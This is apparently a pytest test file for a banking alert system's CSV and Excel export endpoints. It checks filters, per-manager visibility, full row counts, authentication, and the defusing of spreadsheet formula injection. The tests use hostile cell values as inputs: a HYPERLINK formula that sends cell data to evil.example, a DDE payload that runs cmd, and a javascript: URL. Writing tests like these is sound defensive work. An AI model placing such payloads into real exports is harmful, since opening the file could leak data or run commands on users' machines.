"""Alert exports over a real HTTP server on 127.0.0.1: filters, visibility, every row, safe cells."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import httpx
import openpyxl
import pytest

from radar.exports import COLUMNS
from radar.web.server import serve_in_thread
from radar_core.db.models import Alert
from tests.web.conftest import HOSTILE_EVIDENCE, HOSTILE_TITLE, NOW, PASSWORD

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_FIRM = "+cmd|' /C calc'!A0"


@pytest.fixture
def base_url(app):
    with serve_in_thread(app) as url:
        yield url


def _get(base_url: str, path: str, user: str = "ana", **params: str) -> httpx.Response:
    return httpx.get(base_url + path, params=params, auth=(user, PASSWORD), timeout=30)


def _csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def _add_formula_alert(sessions_) -> int:
    with sessions_() as session:
        alert = Alert(dedupe_key="formula", rule_id="@SUM(1)", rule_version="1", polarity="risk",
                      client_id=None, firm_key="prospect:x", company=FORMULA_FIRM,
                      title=FORMULA_TITLE + "\x07bell", score=1.0, severity="low", created_at=NOW,
                      updated_at=NOW, as_of=NOW, notify_client_ids=[], explanation={})
        session.add(alert)
        session.commit()
        return alert.id


def test_csv_export_applies_the_filters_and_keeps_every_column(base_url, seeded):
    rows = _csv(_get(base_url, "/api/alerts.csv", polarity="risk", status="all"))
    assert [int(r["id"]) for r in rows] == [seeded.mehmet_alert]
    row = rows[0]
    assert row["title"] == HOSTILE_TITLE and row["evidence"] == HOSTILE_EVIDENCE
    assert row["firm"] == "Ege Kimya A.Ş." and row["client_id"] == "C2"
    assert row["rm"] == "mehmet@bank.example" and row["severity"] == "critical"
    assert row["source_url"] == "javascript:window.__pwned=1" and row["rule"] == "risk_lawsuit"
    # the default status filter is the queue's ("new"): the accepted alert is left out
    ids = {int(r["id"]) for r in _csv(_get(base_url, "/api/alerts.csv"))}
    assert seeded.old_alert not in ids and seeded.ayse_alert in ids


def test_an_rm_exports_only_what_they_can_see(base_url, seeded):
    ids = {int(r["id"]) for r in _csv(_get(base_url, "/api/alerts.csv", "ayse", status="all"))}
    assert ids == {seeded.ayse_alert, seeded.group_alert, seeded.old_alert}
    # asking for another RM's portfolio does not widen an RM's view
    wider = _csv(_get(base_url, "/api/alerts.csv", "ayse", status="all", rm="mehmet@bank.example"))
    assert {int(r["id"]) for r in wider} == ids
    book = openpyxl.load_workbook(io.BytesIO(
        _get(base_url, "/api/alerts.xlsx", "mehmet", status="all").content), read_only=True)
    assert [row[0] for row in book["alerts"].iter_rows(min_row=2, values_only=True)] == [seeded.mehmet_alert]


def test_formula_cells_are_defused_in_csv_and_xlsx(base_url, sessions_):
    alert_id = _add_formula_alert(sessions_)
    row = next(r for r in _csv(_get(base_url, "/api/alerts.csv", status="all")) if int(r["id"]) == alert_id)
    assert row["title"] == "'" + FORMULA_TITLE + "\x07bell"
    assert row["firm"] == "'" + FORMULA_FIRM and row["rule"] == "'@SUM(1)"
    response = _get(base_url, "/api/alerts.xlsx", status="all", polarity="risk")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book["alerts"]
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    cells = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    title = cells[alert_id][COLUMNS.index("title")]
    assert title.data_type == "s" and title.value == "'" + FORMULA_TITLE + "bell"
    assert cells[alert_id][COLUMNS.index("firm")].value == "'" + FORMULA_FIRM
    assert cells[alert_id][COLUMNS.index("score")].value == 1.0
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_an_export_holds_every_matching_row_not_one_page(base_url, sessions_):
    with sessions_() as session:
        session.add_all(Alert(dedupe_key=f"bulk-{n}", rule_id="bulk", rule_version="1",
                              polarity="opportunity", client_id="C1", firm_key="C1",
                              company="Kuzey Tekstil A.Ş.", title=f"bulk {n}", score=2.0 + (n % 7),
                              severity=("low", "medium", "high")[n % 3], notify_client_ids=[],
                              created_at=NOW - timedelta(minutes=n % 5), updated_at=NOW, as_of=NOW,
                              explanation={}) for n in range(1234))
        session.commit()
    rows = _csv(_get(base_url, "/api/alerts.csv", rule="bulk"))
    assert len(rows) == 1234 and len({r["id"] for r in rows}) == 1234
    assert {r["rm"] for r in rows} == {"ayse@bank.example"}
    book = openpyxl.load_workbook(io.BytesIO(_get(base_url, "/api/alerts.xlsx", rule="bulk").content),
                                  read_only=True)
    assert sum(1 for _ in book["alerts"].iter_rows(min_row=2)) == 1234
    # the API's JSON pages hold 100: the export is not one of them
    assert len(_get(base_url, "/api/alerts", rule="bulk").json()["alerts"]) == 100


def test_exports_need_a_login(base_url):
    response = httpx.get(base_url + "/api/alerts.csv", timeout=30)
    assert response.status_code == 401
    assert _get(base_url, "/api/alerts.xlsx", "ana").status_code == 200
    assert httpx.get(base_url + "/api/alerts.csv", auth=("ana", "wrong"), timeout=30).status_code == 401


def test_the_queue_links_its_exports_with_the_current_filters(login):
    client = login("ana")
    page = client.get("/?polarity=risk&status=all&client=Ege&page=2").text
    assert '/api/alerts.csv?polarity=risk&amp;client=Ege&amp;status=all"' in page
    assert '/api/alerts.xlsx?polarity=risk&amp;client=Ege&amp;status=all"' in page
    download = client.get("/api/alerts.csv?polarity=risk&client=Ege&status=all")
    assert [int(r["id"]) for r in _csv(download)] != []
